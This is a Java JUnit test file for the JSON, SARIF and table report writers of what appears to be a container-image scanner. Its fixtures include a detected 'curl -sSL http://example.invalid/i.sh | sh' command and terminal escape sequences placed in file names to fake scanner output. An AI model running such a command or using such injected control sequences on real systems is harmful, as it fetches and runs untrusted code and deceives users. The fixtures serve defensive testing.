package dev.bulkhead.core.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.networknt.schema.Error;
import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import dev.bulkhead.core.ContentFinding;
import dev.bulkhead.core.Finding;
import dev.bulkhead.core.Layer;
import dev.bulkhead.core.OsInfo;
import dev.bulkhead.core.Package;
import dev.bulkhead.core.Report;
import dev.bulkhead.core.Severity;
import dev.bulkhead.core.testing.SharedData;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.Iterator;
import java.util.List;
import org.junit.jupiter.api.Test;

class ReportWritersTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String LAYER =
      "sha256:5216338b40a7b96416b8b9858974bbe4acc3096ee60acbc4dfb1ee02aecceb10";

  static Report sample() {
    Package libc =
        new Package(
            "libc6",
            "2.36-9+deb12u1",
            "amd64",
            "glibc",
            "2.36-9+deb12u1",
            Package.DEB,
            "pkg:deb/debian/libc6@2.36-9%2Bdeb12u1?arch=amd64",
            LAYER,
            "/bin/sh -c #(nop) ADD file:abc in / ",
            "var/lib/dpkg/status");
    Finding looneyTunables =
        new Finding(
            "CVE-2023-4911",
            "libc6",
            "2.36-9+deb12u1",
            "2.36-9+deb12u3",
            Finding.STATUS_FIXED,
            Severity.HIGH,
            "A buffer overflow was discovered in the GNU C Library's dynamic loader ld.so while"
                + " processing the GLIBC_TUNABLES environment variable.",
            LAYER,
            Package.DEB,
            "glibc",
            "debian-tracker:bookworm",
            List.of(),
            List.of("https://security-tracker.debian.org/tracker/CVE-2023-4911"));
    Finding open =
        new Finding(
            "CVE-2010-4756",
            "libc6",
            "2.36-9+deb12u1",
            null,
            Finding.STATUS_AFFECTED,
            Severity.LOW,
            null,
            LAYER,
            Package.DEB,
            "glibc",
            "debian-tracker:bookworm",
            null,
            null);
    return new Report(
        Report.SCHEMA_VERSION,
        "docker-archive:debian.tar",
        new OsInfo("debian", "12", "bookworm", "Debian GNU/Linux 12 (bookworm)"),
        List.of(new Layer(0, LAYER, LAYER, "/bin/sh -c #(nop) ADD file:abc in / ", 1234)),
        List.of(libc),
        List.of(looneyTunables, open),
        List.of("var/lib/dpkg/status: stanza 7 has no Version field; skipped"));
  }

  static Report withContent() {
    ContentFinding removedKey =
        new ContentFinding(
            ContentFinding.SECRET,
            "aws-access-key-id",
            "aws",
            Severity.CRITICAL,
            "AWS access key ID",
            "app/.env",
            3,
            "AWS_ACCESS_KEY_ID=AKIA************XY",
            LAYER,
            ContentFinding.REMOVED,
            "sha256:0000000000000000000000000000000000000000000000000000000000000002");
    ContentFinding history =
        new ContentFinding(
            ContentFinding.MALWARE,
            "curl-pipe-shell",
            "suspicious-command",
            Severity.HIGH,
            "Downloads a script and pipes it to a shell",
            "history[2]",
            0,
            "RUN curl -sSL http://example.invalid/i.sh | sh",
            null,
            ContentFinding.PRESENT,
            null);
    return sample().withContentFindings(List.of(removedKey, history));
  }

  @Test
  void contentFindingsAppearInEveryFormat() throws IOException {
    Report report = withContent();
    JsonNode root = JSON.readTree(render(new JsonReportWriter(), report));
    assertThat(root.get("secrets")).hasSize(1);
    assertThat(root.get("malware")).hasSize(1);
    assertThat(fieldNames(root.get("secrets").get(0)))
        .containsExactly(
            "ruleId",
            "category",
            "severity",
            "title",
            "path",
            "line",
            "excerpt",
            "layer",
            "status",
            "removedIn");
    assertThat(root.get("secrets").get(0).get("status").asText()).isEqualTo("removed");

    String sarif = render(new SarifReportWriter("0.1.0"), report);
    Schema schema;
    try (InputStream in =
        Files.newInputStream(SharedData.require("schemas/sarif-schema-2.1.0.json"))) {
      schema = SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_4).getSchema(in);
    }
    assertThat(schema.validate(JSON.readTree(sarif))).isEmpty();
    assertThat(sarif).contains("history%5B2%5D").doesNotContain("AKIAIOSFODNN");

    String table = render(new TableReportWriter(), report);
    assertThat(table)
        .contains("Secrets: 1 (CRITICAL 1)")
        .contains("Malicious content: 1 (HIGH 1)")
        .contains("app/.env")
        .contains("still present in the image")
        .contains("aws-access-key-id");
    for (String line : table.split("\n", -1)) {
      assertThat(line.length()).as(line).isLessThanOrEqualTo(80);
    }
  }

  private static String render(ReportWriter writer, Report report) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    writer.write(report, out);
    return out.toString(StandardCharsets.UTF_8);
  }

  @Test
  void jsonKeepsTheContractFieldNames() throws IOException {
    JsonNode root = JSON.readTree(render(new JsonReportWriter(), sample()));
    assertThat(root.get("schemaVersion").asInt()).isEqualTo(1);
    assertThat(root.get("target").asText()).isEqualTo("docker-archive:debian.tar");
    assertThat(root.get("os").get("family").asText()).isEqualTo("debian");
    assertThat(root.get("os").get("version").asText()).isEqualTo("12");
    assertThat(fieldNames(root.get("packages").get(0)))
        .contains("name", "version", "sourceName", "sourceVersion", "type", "layer");
    assertThat(fieldNames(root.get("findings").get(0)))
        .contains(
            "vulnerabilityId",
            "packageName",
            "installedVersion",
            "fixedVersion",
            "status",
            "severity",
            "title",
            "layer");
    assertThat(root.get("findings").get(1).get("fixedVersion").isNull()).isTrue();
    assertThat(root.get("findings").get(0).get("severity").asText()).isEqualTo("HIGH");
    assertThat(root.get("warnings").get(0).asText()).contains("stanza 7");
  }

  @Test
  void sarifIsValidAgainstTheOfficialSchema() throws IOException {
    String sarif = render(new SarifReportWriter("0.1.0"), sample());
    Schema schema;
    try (InputStream in =
        Files.newInputStream(SharedData.require("schemas/sarif-schema-2.1.0.json"))) {
      schema = SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_4).getSchema(in);
    }
    List<Error> errors = schema.validate(JSON.readTree(sarif));
    assertThat(errors).isEmpty();
    JsonNode run = JSON.readTree(sarif).get("runs").get(0);
    assertThat(run.get("tool").get("driver").get("rules")).hasSize(2);
    assertThat(run.get("results").get(0).get("level").asText()).isEqualTo("error");
    assertThat(
            run.get("results")
                .get(0)
                .get("locations")
                .get(0)
                .get("physicalLocation")
                .get("artifactLocation")
                .get("uri")
                .asText())
        .isEqualTo("var/lib/dpkg/status");
    assertThat(
            run.get("tool")
                .get("driver")
                .get("rules")
                .get(0)
                .get("properties")
                .get("security-severity")
                .asText())
        .isEqualTo("8.0");
  }

  @Test
  void tableFitsEightyColumnsAndGroupsByPackage() throws IOException {
    String table = render(new TableReportWriter(), sample());
    for (String line : table.split("\n", -1)) {
      assertThat(line.length()).as(line).isLessThanOrEqualTo(80);
    }
    assertThat(table)
        .contains("libc6 2.36-9+deb12u1 (source glibc)")
        .contains("CVE-2023-4911")
        .contains("fixed in 2.36-9+deb12u3")
        .contains("no fix yet")
        .contains("Vulnerabilities: 2 (CRITICAL 0, HIGH 1, MEDIUM 0, LOW 1, UNKNOWN 0)")
        .contains("Warnings:");
    assertThat(table.indexOf("libc6 2.36")).isEqualTo(table.lastIndexOf("libc6 2.36"));
  }

  @Test
  void tableSaysWhenNothingWasFound() throws IOException {
    String table = render(new TableReportWriter(), sample().withFindings(List.of()));
    assertThat(table).contains("No vulnerabilities found.");
  }

  private static List<String> fieldNames(JsonNode node) {
    List<String> names = new java.util.ArrayList<>();
    for (Iterator<String> it = node.fieldNames(); it.hasNext(); ) {
      names.add(it.next());
    }
    return names;
  }

  @Test
  void tableNeverPrintsTerminalControlSequencesFromTheImage() throws IOException {
    Report hostile =
        withContent()
            .withWarning("layer 2: bad entry tmp/\u001b]0;TITLE\u0007x.sh")
            .withContentFindings(
                List.of(
                    new ContentFinding(
                        ContentFinding.MALWARE,
                        "download-pipe-shell",
                        "suspicious-command",
                        Severity.MEDIUM,
                        "Downloads a script",
                        "tmp/\u001b[31mRED\u001b[0m.sh",
                        2,
                        "\u001b[2J\u001b[31mFAKE: No vulnerabilities found",
                        LAYER,
                        ContentFinding.PRESENT,
                        null)));
    String table = render(new TableReportWriter(), hostile);
    assertThat(table).doesNotContain("\u001b").doesNotContain("\u0007").contains("tmp/?[31mRED");
  }
}
